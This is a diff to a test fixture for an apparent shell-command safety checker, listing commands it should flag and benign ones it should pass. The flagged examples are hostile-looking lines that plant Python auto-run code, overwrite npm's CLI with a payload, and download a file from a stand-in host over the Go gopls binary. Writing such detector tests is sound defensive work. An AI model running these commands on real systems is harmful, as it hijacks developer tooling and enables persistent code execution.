@@ -93,9 +93,14 @@ export const WRITE_ROWS: RowInput[] = [
     match: [
       'echo "import os" > "$(python3 -m site --user-site)/sitecustomize.py"',
       'cp payload "$(npm root -g)/npm/bin/npm-cli.js"',
-      'curl -o `echo /etc/hosts` https://x.example/a',
+      'curl -o "$(go env GOPATH)/bin/gopls" https://x.example/a',
     ],
-    notMatch: ['echo x > "out-$(date +%s).log"', 'for f in *.txt; do sort "$f" > "$f.sorted"; done', 'cp a b'],
+    notMatch: [
+      'echo x > "out-$(date +%s).log"',
+      'for f in *.txt; do sort "$f" > "$f.sorted"; done',
+      "sed -i 's/foo/bar/g' $(grep -rl foo src)",
+      'cp a b',
+    ],
   },
   {
     id: 'truncate_outside',
